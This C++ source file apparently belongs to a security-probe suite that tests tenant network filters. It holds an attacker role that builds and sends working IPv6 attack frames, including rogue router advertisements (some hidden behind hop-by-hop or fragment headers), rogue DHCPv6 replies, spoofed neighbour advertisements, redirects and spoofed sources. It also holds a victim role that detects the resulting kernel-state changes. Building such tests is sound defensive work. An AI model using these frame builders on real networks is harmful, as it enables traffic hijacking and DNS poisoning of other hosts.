// The security probes' two roles. The attacker sends each attack the catalogue
// names at one victim, counting frames and recording times; the victim captures what
// arrives and sorts it by the attacker's markers. Coordination needs no controller: the
// victim announces on the tenant link that it listens (a marked NS, which every security
// group admits), the attacker starts on that announcement or at its own deadline, and marked
// control NSs before and after the attacks prove the victim's capture and path work.
#include <algorithm>
#include <cstdio>
#include <map>

#include "../wire/proto.hpp"
#include "common.hpp"
#include "v6c/probe/kernel_state.hpp"
#include "v6c/probe/procedures.hpp"
#include "v6c/wire/attacks.hpp"

namespace v6c::probe {
namespace {

using namespace std::chrono_literals;
namespace id = attack_id;

// RFC 3971 §5.3.2 Nonce option: receivers ignore it outside DAD (RFC 7527), so it carries our
// markers in NSs that are otherwise ordinary.
constexpr std::uint8_t kNonceOption = 14;
constexpr std::uint8_t kMarkerMagic[] = {'v', '6', 'c'};
enum class Marker : std::uint8_t { listening = 'L', start = 'S', done = 'D' };

constexpr std::uint16_t kAttackEchoId = 0x7636;    // "v6": echo requests that are attacks
constexpr std::size_t kEchoSize = 104;             // IPv6 bytes, like ping6's default
constexpr std::uint16_t kAttackUdpPort = 0x7636;   // unsolicited-udp's destination
constexpr std::uint16_t kAttackSourcePort = 0x7637;
constexpr std::uint16_t kSshPort = 22;             // unsolicited-tcp: what a default group must shield
constexpr std::uint32_t kTcpSeq = 0x76366300;
constexpr std::uint32_t kFragmentId = 0x76366672;  // "v6fr"
constexpr std::uint8_t kUnicastHopLimit = 64;
constexpr std::uint8_t kTcp = 6, kUdp = 17;
constexpr std::uint16_t kDhcpClientPort = 546, kDhcpServerPort = 547;  // RFC 8415 §7.2
constexpr std::uint32_t kDhcpTransactionId = 0x763663;                // 24 bits (RFC 8415 §8)
constexpr std::uint16_t kDuidLl = 3, kHwTypeEthernet = 1;             // RFC 8415 §11.4
constexpr std::uint8_t kMaxDhcpPreference = 255;  // RFC 8415 §18.2.1: the client takes it at once
// The rogue router as an attacker would configure it (RFC 4191 §2.2 high preference).
constexpr int kHighPreference = 1;
constexpr std::uint16_t kRogueRouterLifetimeS = 1800;
constexpr std::uint32_t kRogueValidS = 86400, kRoguePreferredS = 14400;
constexpr std::uint8_t kRoguePrefixLength = 64;
constexpr std::uint8_t kRogueCurHopLimit = 64;
constexpr std::uint16_t kRogueHost = 0x53;  // 2001:db8:bad::53: its DNS server, its addresses

constexpr auto kAnnounceInterval = 50ms;  // the victim repeats until the attacker starts
constexpr std::size_t kKeepPerAttack = 64;  // evidence enough; a hostile flood is not kept
constexpr auto kNsRetry = 300ms;          // the victim's NS for the gateway, if unanswered
constexpr int kNsAttempts = 3;
constexpr auto kRsRetry = 1000ms;         // a second RS if no RA answered the first
constexpr int kRsAttempts = 2;

wire::Ip6 rogue_host(std::uint16_t host) {
  wire::Ip6 a = kRoguePrefix;
  a.bytes[14] = static_cast<std::uint8_t>(host >> 8);
  a.bytes[15] = static_cast<std::uint8_t>(host);
  return a;
}

wire::NeighborSolicit marked_ns(const wire::Ip6& target, const wire::Mac& source_lla, Marker m, std::uint16_t seq) {
  std::vector<std::uint8_t> nonce(std::begin(kMarkerMagic), std::end(kMarkerMagic));
  nonce.push_back(static_cast<std::uint8_t>(m));
  nonce.push_back(static_cast<std::uint8_t>(seq >> 8));
  nonce.push_back(static_cast<std::uint8_t>(seq));
  return wire::NeighborSolicit{target, source_lla, {wire::RawOption{kNonceOption, nonce}}};
}

std::optional<Marker> marker_of(const wire::Packet& p) {
  const auto* ns = p.as<wire::NeighborSolicit>();
  if (!ns) return std::nullopt;
  for (const auto& o : ns->unknown)
    if (o.type == kNonceOption && o.data.size() > sizeof kMarkerMagic &&
        std::equal(std::begin(kMarkerMagic), std::end(kMarkerMagic), o.data.begin()))
      return static_cast<Marker>(o.data[sizeof kMarkerMagic]);
  return std::nullopt;
}

// A control NS from the attacker's own addresses to the victim: legitimate everywhere.
wire::Bytes control_frame(const AttackParties& p, Marker m, std::uint16_t seq) {
  wire::Addressing a{p.attacker_mac, p.victim_mac, p.attacker_link_local, p.victim_link_local};
  return wire::build_ns(a, marked_ns(p.victim_link_local, p.attacker_mac, m, seq));
}

wire::RouterAdvert rogue_ra(const AttackParties& p) {
  wire::RouterAdvert ra;
  ra.cur_hop_limit = kRogueCurHopLimit;
  ra.preference = kHighPreference;
  ra.router_lifetime_s = kRogueRouterLifetimeS;
  ra.source_lla = p.attacker_mac;
  ra.prefixes = {{kRoguePrefix, kRoguePrefixLength, true, true, kRogueValidS, kRoguePreferredS}};
  ra.rdnss = {{kRogueValidS, {rogue_host(kRogueHost)}}};
  return ra;
}

wire::Dhcp6Message rogue_dhcp6(wire::Dhcp6Type type, const AttackParties& p) {
  wire::Dhcp6Message m;
  m.type = type;
  m.transaction_id = kDhcpTransactionId;
  m.src_port = kDhcpServerPort;
  m.dst_port = kDhcpClientPort;
  wire::Duid server;
  server.type = kDuidLl;
  server.hw_type = kHwTypeEthernet;
  server.identifier.assign(p.attacker_mac.bytes.begin(), p.attacker_mac.bytes.end());
  m.server_id = server;
  wire::IaNa ia;
  ia.iaid = 1;
  ia.addresses = {{rogue_host(kRogueHost + 1), kRoguePreferredS, kRogueValidS, std::nullopt}};
  m.ia_na = {ia};
  m.dns_servers = {rogue_host(kRogueHost)};
  m.preference = kMaxDhcpPreference;
  return m;
}

template <class T>
const T& need(const std::optional<T>& v, std::string_view attack, const char* what) {
  if (!v) throw std::invalid_argument(std::string(attack) + " needs " + what);
  return *v;
}

bool is(std::string_view a, std::string_view b) { return a == b; }

}  // namespace

// One list, two spellings: the catalogue checks params.attacks against wire::kAttackIds.
static_assert(std::equal(wire::kAttackIds.begin(), wire::kAttackIds.end(),
                         std::array{id::kRogueRa, id::kRogueRaHbh, id::kRogueRaFrag, id::kRogueDhcp6Advertise,
                                    id::kRogueDhcp6Reply, id::kSpoofSourceIp, id::kSpoofSourceMac,
                                    id::kNaSpoofGateway, id::kNaSpoofPeer, id::kRedirect, id::kUnsolicitedEcho,
                                    id::kUnsolicitedTcp, id::kUnsolicitedUdp}
                             .begin()));

const std::vector<std::string>& all_attacks() {
  static const std::vector<std::string> ids(wire::kAttackIds.begin(), wire::kAttackIds.end());
  return ids;
}

std::vector<wire::Bytes> attack_frames(std::string_view a, const AttackParties& p) {
  // On-link attacks go to the victim's link-local address, the others to its global one.
  const wire::Addressing link{p.attacker_mac, p.victim_mac, p.attacker_link_local, p.victim_link_local};
  auto global = [&](const wire::Ip6& source) {
    return wire::Addressing{p.attacker_mac, p.victim_mac, source, need(p.victim_address, a, "the victim's address"),
                            kUnicastHopLimit};
  };
  auto own_global = [&] { return global(need(p.attacker_address, a, "the attacker's global address")); };
  // Router flag as the impersonated host has it: an NA clearing it for the gateway would make
  // Linux drop every route via the NA's sender, the rogue RA's among them.
  auto spoofed_na = [&](const wire::Ip6& target, bool router) {
    return wire::build_na(link, wire::NeighborAdvert{router, false, true, target, p.attacker_mac, {}});
  };

  if (is(a, id::kRogueRa)) return {wire::build_ra(link, rogue_ra(p))};
  if (is(a, id::kRogueRaHbh))
    return {wire::with_extension_header(wire::build_ra(link, rogue_ra(p)), wire::kNextHeaderHopByHop)};
  if (is(a, id::kRogueRaFrag)) return wire::fragment_behind_options(wire::build_ra(link, rogue_ra(p)), kFragmentId);
  if (is(a, id::kRogueDhcp6Advertise) || is(a, id::kRogueDhcp6Reply)) {
    auto type = is(a, id::kRogueDhcp6Reply) ? wire::Dhcp6Type::reply : wire::Dhcp6Type::advertise;
    auto addressing = link;
    addressing.hop_limit = kUnicastHopLimit;
    return {wire::build_dhcp6(addressing, rogue_dhcp6(type, p))};
  }
  if (is(a, id::kSpoofSourceIp)) {
    const auto& spoofed = p.spoofed_source ? *p.spoofed_source : need(p.victim_address, a, "an address to spoof");
    return {wire::build_echo(global(spoofed), wire::Echo{false, kAttackEchoId, 1, 0}, kEchoSize)};
  }
  if (is(a, id::kSpoofSourceMac)) {
    // A unicast NS (as NUD sends, RFC 4861 §7.3.1): the one message every security group
    // admits, so only the MAC filter stands in its way.
    auto addressing = link;
    addressing.src_mac = kSpoofedMac;
    return {wire::build_ns(addressing, wire::NeighborSolicit{p.victim_link_local, kSpoofedMac, {}})};
  }
  if (is(a, id::kNaSpoofGateway)) return {spoofed_na(need(p.gateway, a, "the gateway's address"), true)};
  if (is(a, id::kNaSpoofPeer)) return {spoofed_na(p.victim_address.value_or(p.victim_link_local), false)};
  if (is(a, id::kRedirect))
    return {wire::build_redirect(link, wire::Redirect{p.attacker_link_local, rogue_host(kRogueHost), p.attacker_mac, 0})};
  if (is(a, id::kUnsolicitedEcho))
    return {wire::build_echo(own_global(), wire::Echo{false, kAttackEchoId, 1, 0}, kEchoSize)};
  if (is(a, id::kUnsolicitedTcp)) return {wire::build_tcp_syn(own_global(), kAttackSourcePort, kSshPort, kTcpSeq)};
  if (is(a, id::kUnsolicitedUdp)) {
    const std::uint8_t payload[] = {'v', '6', 'c'};
    return {wire::build_udp(own_global(), kAttackSourcePort, kAttackUdpPort, payload)};
  }
  throw std::invalid_argument("unknown attack " + std::string(a));
}

std::optional<std::string> classify_attack(const wire::Packet& p, const AttackParties& parties) {
  auto as = [](std::string_view a) { return std::optional<std::string>(a); };
  if (p.ctx.src_mac == kSpoofedMac) return as(id::kSpoofSourceMac);
  if (p.ctx.src_mac != parties.attacker_mac) return std::nullopt;
  if (p.ctx.fragmented) return as(id::kRogueRaFrag);
  if (p.as<wire::RouterAdvert>()) {
    const auto& ext = p.ctx.ext_headers;
    bool behind_hbh = std::find(ext.begin(), ext.end(), wire::kNextHeaderHopByHop) != ext.end();
    return as(behind_hbh ? id::kRogueRaHbh : id::kRogueRa);
  }
  if (const auto* d = p.as<wire::Dhcp6Message>()) {
    if (d->type == wire::Dhcp6Type::advertise) return as(id::kRogueDhcp6Advertise);
    if (d->type == wire::Dhcp6Type::reply) return as(id::kRogueDhcp6Reply);
    return std::nullopt;
  }
  if (const auto* na = p.as<wire::NeighborAdvert>()) {
    if (parties.gateway && na->target == *parties.gateway) return as(id::kNaSpoofGateway);
    if (na->target == parties.victim_link_local || (parties.victim_address && na->target == *parties.victim_address))
      return as(id::kNaSpoofPeer);
    return std::nullopt;
  }
  if (p.as<wire::Redirect>()) return as(id::kRedirect);
  if (const auto* e = p.as<wire::Echo>(); e && !e->reply && e->id == kAttackEchoId) {
    bool own = p.ctx.src_ip == parties.attacker_link_local ||
               (parties.attacker_address && p.ctx.src_ip == *parties.attacker_address);
    return as(own ? id::kUnsolicitedEcho : id::kSpoofSourceIp);
  }
  if (const auto* o = p.as<wire::OtherPacket>()) {
    if (o->next_header == kTcp) return as(id::kUnsolicitedTcp);
    if (o->next_header == kUdp && o->dst_port == kAttackUdpPort) return as(id::kUnsolicitedUdp);
  }
  return std::nullopt;
}

std::vector<wire::StateChange> state_changes(const wire::KernelState& before, const wire::KernelState& after,
                                             const AttackParties& p) {
  const std::vector<std::string> ra_attacks = {std::string(id::kRogueRa), std::string(id::kRogueRaHbh),
                                               std::string(id::kRogueRaFrag)};
  const std::vector<std::string> dhcp_attacks = {std::string(id::kRogueDhcp6Advertise),
                                                 std::string(id::kRogueDhcp6Reply)};
  auto attackers = [&](const wire::Ip6& a) {
    return a == p.attacker_link_local || (p.attacker_address && a == *p.attacker_address);
  };
  auto rogue = [](const wire::Ip6& a) { return a.prefix(kRoguePrefixLength) == kRoguePrefix; };
  auto ours = [&](const wire::Ip6& a) { return a == p.victim_link_local || (p.victim_address && a == *p.victim_address); };
  std::vector<wire::StateChange> out;

  auto route_text = [](const wire::KernelRoute& r) {
    std::string dst = r.prefix_length == 0 ? "default" : r.destination.str() + "/" + std::to_string(r.prefix_length);
    return r.next_hop.is_unspecified() ? dst : dst + " via " + r.next_hop.str();
  };
  auto routes = [&](const std::vector<wire::KernelRoute>& from, const std::vector<wire::KernelRoute>& to,
                    const char* change) {
    for (const auto& r : from)
      if (std::find(to.begin(), to.end(), r) == to.end())
        out.push_back({"route", change, route_text(r),
                       attackers(r.next_hop) || rogue(r.destination) ? ra_attacks : std::vector<std::string>{}});
  };
  routes(after.routes, before.routes, "added");
  routes(before.routes, after.routes, "removed");

  constexpr std::uint8_t kDadFailed = 0x08;  // IFA_F_DADFAILED
  auto address_attacks = [&](const wire::Ip6& a) {
    if (a == rogue_host(kRogueHost + 1)) return dhcp_attacks;  // the rogue DHCPv6 server's lease
    return rogue(a) ? ra_attacks : std::vector<std::string>{};
  };
  for (const auto& a : after.addresses) {
    auto it = std::find_if(before.addresses.begin(), before.addresses.end(), [&](const wire::KernelAddress& b) {
      return b.address == a.address && b.prefix_length == a.prefix_length;
    });
    const auto text = a.address.str() + "/" + std::to_string(a.prefix_length);
    if (it == before.addresses.end()) {
      out.push_back({"address", "added", text, address_attacks(a.address)});
    } else if (it->flags != a.flags) {
      bool dad_failed = (a.flags & kDadFailed) && !(it->flags & kDadFailed) && ours(a.address);
      char flags[32];
      std::snprintf(flags, sizeof flags, " flags 0x%02x -> 0x%02x", it->flags, a.flags);
      out.push_back({"address", "changed", text + flags,
                     dad_failed ? std::vector<std::string>{std::string(id::kNaSpoofPeer)} : std::vector<std::string>{}});
    }
  }
  for (const auto& b : before.addresses)
    if (std::none_of(after.addresses.begin(), after.addresses.end(), [&](const wire::KernelAddress& a) {
          return b.address == a.address && b.prefix_length == a.prefix_length;
        }))
      out.push_back({"address", "removed", b.address.str() + "/" + std::to_string(b.prefix_length), {}});

  // Neighbours: only what a packet can change, the link-layer address and the router flag.
  auto mac_text = [](const std::optional<wire::Mac>& m) { return m ? m->str() : std::string("(none)"); };
  for (const auto& n : after.neighbours) {
    auto it = std::find_if(before.neighbours.begin(), before.neighbours.end(),
                           [&](const wire::KernelNeighbour& b) { return b.address == n.address; });
    const bool added = it == before.neighbours.end();
    const auto old_mac = added ? std::nullopt : it->lladdr;
    const bool old_router = !added && it->router;
    if (n.lladdr == old_mac && n.router == old_router) continue;
    if (added && !n.lladdr) continue;  // an entry still resolving says nothing yet
    std::vector<std::string> blamed;
    if (n.lladdr == kSpoofedMac) blamed = {std::string(id::kSpoofSourceMac)};
    else if (n.lladdr == p.attacker_mac && !attackers(n.address) && p.gateway && n.address == *p.gateway)
      blamed = {std::string(id::kNaSpoofGateway)};
    else if (n.lladdr == p.attacker_mac && !attackers(n.address) && ours(n.address))
      blamed = {std::string(id::kNaSpoofPeer)};
    else if (n.lladdr == p.attacker_mac && !attackers(n.address))
      blamed = {std::string(id::kNaSpoofGateway), std::string(id::kNaSpoofPeer)};
    else if (attackers(n.address) && n.router && !old_router)
      blamed = ra_attacks;  // only an RA makes the attacker a router
    std::string detail = n.address.str() + " lladdr " + mac_text(old_mac) + " -> " + mac_text(n.lladdr);
    if (n.router != old_router) detail += n.router ? ", now a router" : ", no longer a router";
    out.push_back({"neighbour", added ? "added" : "changed", detail, blamed});
  }
  return out;
}

wire::AttackResult attack(Link& link, const AttackOptions& o) {
  if (o.allowed_interface != link.name())
    throw LinkError(LinkError::Kind::other, "refused to attack on " + link.name() +
                                                ": the plan allows attacks only on \"" + o.allowed_interface + "\"");
  AttackParties p = o.parties;
  p.attacker_mac = link.mac();
  p.attacker_link_local = link.link_local();
  wire::AttackResult r;

  // Wait for the victim's announcement, or start at the deadline (its clock is not ours).
  link.set_filter(wire::proto::icmp6_type_filter(wire::proto::icmp6::kNeighborSolicit) + " and ether src " +
                  p.victim_mac.str());
  const auto start = Clock::now();
  detail::collect(link, start + o.wait, [&](const wire::Packet& pkt) {
    if (marker_of(pkt) != Marker::listening || pkt.ctx.src_mac != p.victim_mac) return false;
    p.victim_link_local = pkt.ctx.src_ip;  // its real link-local, whatever the plan assumed
    r.announced = true;
    return true;
  });
  r.waited_ms = detail::ms_between(start, Clock::now());
  link.set_filter("less 0");  // nothing to hear while attacking

  std::uint16_t control_seq = 0;
  auto control = [&](Marker m) {
    link.send(control_frame(p, m, control_seq++));
    ++r.control_sent;
  };
  control(Marker::start);
  for (const auto& a : o.attacks.empty() ? all_attacks() : o.attacks) {
    wire::AttackSent s;
    s.id = a;
    try {
      auto frames = attack_frames(a, p);
      s.sample = detail::sent_packet(frames.front());
      for (int i = 0; i < o.count; ++i)
        for (const auto& f : frames) {
          auto t = Link::now_us();
          link.send(f);
          if (s.sent++ == 0) s.first_us = t;
          s.last_us = t;
        }
    } catch (const std::exception& e) {
      s.status = wire::RunStatus::error;
      s.error = e.what();
    }
    r.attacks.push_back(std::move(s));
  }
  control(Marker::done);
  return r;
}

namespace {

// The victim's side: it primes and reads its kernel's state, announces that it listens,
// resolves the gateway and solicits an RA, and sorts what arrives by attack until the
// attacker's done (plus a linger) or its window ends.
class VictimRun {
 public:
  VictimRun(Link& link, const VictimOptions& o) : link_(link), o_(o), p_(o.parties) {
    p_.victim_mac = link.mac();
    p_.victim_link_local = link.link_local();
  }
  // Our kernel's state before anything is announced; the gateway and the attacker resolved
  // first, so that their entries exist for a spoofed NA to overwrite.
  void read_state_before() {
    try {
      std::vector<wire::Ip6> neighbours = {p_.attacker_link_local};
      if (p_.gateway) neighbours.push_back(*p_.gateway);
      prime_neighbours(link_.ifindex(), neighbours, o_.prime);
      r_.state_before = read_kernel_state(link_.name(), link_.ifindex());
    } catch (const std::exception& e) {
      r_.state_error = e.what();
    }
  }
  void listen();
  // The linger after the last control gave the kernel time to handle every frame.
  void read_state_after() {
    if (!r_.state_before) return;
    try {
      r_.state_after = read_kernel_state(link_.name(), link_.ifindex());
      r_.state_changes = state_changes(*r_.state_before, *r_.state_after, p_);
    } catch (const std::exception& e) {
      r_.state_error = e.what();
    }
  }
  wire::VictimResult result();

 private:
  void announce() {
    const wire::Addressing to_attacker{p_.victim_mac, p_.attacker_mac, p_.victim_link_local, p_.attacker_link_local};
    link_.send(wire::build_ns(to_attacker, marked_ns(p_.attacker_link_local, p_.victim_mac, Marker::listening,
                                                     static_cast<std::uint16_t>(r_.announcements))));
    ++r_.announcements;
  }
  void solicit_router() {
    link_.send(wire::build_rs(detail::multicast_from(link_, p_.victim_link_local, wire::kAllRouters),
                              wire::RouterSolicit{p_.victim_mac, {}}));
    ++r_.rs_sent;
  }
  void solicit_gateway() {
    if (!p_.gateway) return;
    link_.send(wire::build_ns(detail::multicast_from(link_, p_.victim_link_local, wire::solicited_node(*p_.gateway)),
                              wire::NeighborSolicit{*p_.gateway, p_.victim_mac, {}}));
    ++r_.ns_sent;
  }
  // A router that answers RSs late still has its RAs reach us: without one yet, listen on.
  Clock::time_point end() const { return r_.ras == 0 ? std::max(deadline_, start_ + o_.ra_wait) : deadline_; }
  bool finished() const { return done_at_ && Clock::now() >= *done_at_ + o_.linger && r_.ras > 0 && r_.nas > 0; }
  Clock::time_point send_due();
  void take(wire::Packet pkt);
  void take_control(Marker m);

  Link& link_;
  const VictimOptions& o_;
  AttackParties p_;
  wire::VictimResult r_;
  Clock::time_point start_, deadline_, next_announce_, next_ns_, next_rs_;
  std::optional<Clock::time_point> done_at_;
  std::map<std::string, std::vector<wire::Packet>> arrived_;
  bool frag_first_ = false, frag_last_ = false;  // of the fragmented RA, whether or not kept
};

void VictimRun::listen() {
  // Only frames addressed to us (attacks are unicast to our MAC) and multicast (RAs).
  link_.set_filter("ip6 and (ether dst " + p_.victim_mac.str() + " or ether multicast)");
  start_ = Clock::now();
  deadline_ = start_ + o_.listen;
  // The gateway answers before anyone is told to attack: its solicited NA (override set) landing
  // after a spoofed one would restore our kernel's entry and hide the spoof.
  solicit_router();
  solicit_gateway();
  next_announce_ = Clock::now();
  next_ns_ = Clock::now() + kNsRetry;
  next_rs_ = Clock::now() + kRsRetry;
  while (Clock::now() < end() && !finished())
    if (auto pkt = link_.receive(send_due())) take(std::move(*pkt));
  r_.window_ms = static_cast<std::uint32_t>(detail::ms_between(start_, Clock::now()));
}

// Sends what is due (announcements until the attacker starts, the gateway's NS until it
// answers, RSs until an RA comes) and returns when the next one is.
Clock::time_point VictimRun::send_due() {
  const auto now = Clock::now();
  const bool resolving = r_.nas == 0 && p_.gateway && (static_cast<int>(r_.ns_sent) < kNsAttempts || now < next_ns_);
  const bool announcing = !r_.attacker_started && !resolving;
  const bool soliciting = r_.ras == 0 && static_cast<int>(r_.rs_sent) < kRsAttempts;
  if (announcing && now >= next_announce_) {
    announce();
    next_announce_ = now + kAnnounceInterval;
  }
  if (resolving && now >= next_ns_) {
    solicit_gateway();
    next_ns_ = now + kNsRetry;
  }
  if (soliciting && now >= next_rs_) {
    solicit_router();
    next_rs_ = now + kRsRetry;
  }
  auto wake = end();
  if (done_at_ && now < *done_at_ + o_.linger) wake = std::min(wake, *done_at_ + o_.linger);
  if (announcing) wake = std::min(wake, next_announce_);
  if (resolving) wake = std::min(wake, next_ns_);
  if (soliciting) wake = std::min(wake, next_rs_);
  return wake;
}

void VictimRun::take(wire::Packet pkt) {
  if (auto attack = classify_attack(pkt, p_)) {
    if (*attack == id::kRogueRaFrag)
      if (auto info = wire::fragment_info(pkt)) {
        frag_first_ = frag_first_ || info->offset_bytes == 0;
        frag_last_ = frag_last_ || !info->more;
      }
    if (auto& kept = arrived_[*attack]; kept.size() < kKeepPerAttack) kept.push_back(std::move(pkt));
    return;
  }
  if (auto m = marker_of(pkt); m && pkt.ctx.src_mac == p_.attacker_mac) return take_control(*m);
  if (pkt.as<wire::RouterAdvert>()) ++r_.ras;
  if (const auto* na = pkt.as<wire::NeighborAdvert>();
      na && na->solicited && (na->target == p_.attacker_link_local || (p_.gateway && na->target == *p_.gateway)))
    ++r_.nas;
}

void VictimRun::take_control(Marker m) {
  if (m == Marker::start) r_.attacker_started = true;
  if (m == Marker::done) {
    r_.attacker_started = true;
    r_.attacker_done = true;
    done_at_ = Clock::now();
    // A done near the end of the window still gets its linger: the kernel may be handling
    // the last attack frame on the other core while we read its state.
    deadline_ = std::max(deadline_, *done_at_ + o_.linger);
  }
  if (m != Marker::listening) ++r_.control_received;
}

wire::VictimResult VictimRun::result() {
  // A fragmented RA reached us only if its first and its last fragment both did.
  if (auto it = arrived_.find(std::string(id::kRogueRaFrag)); it != arrived_.end() && !(frag_first_ && frag_last_)) {
    r_.incomplete = std::move(it->second);
    arrived_.erase(it);
  }
  for (const auto& a : all_attacks())
    if (auto it = arrived_.find(a); it != arrived_.end()) r_.received.push_back({a, std::move(it->second)});
  return std::move(r_);
}

}  // namespace

wire::VictimResult victim(Link& link, const VictimOptions& o) {
  VictimRun run(link, o);
  run.read_state_before();
  run.listen();
  run.read_state_after();
  return run.result();
}

}  // namespace v6c::probe
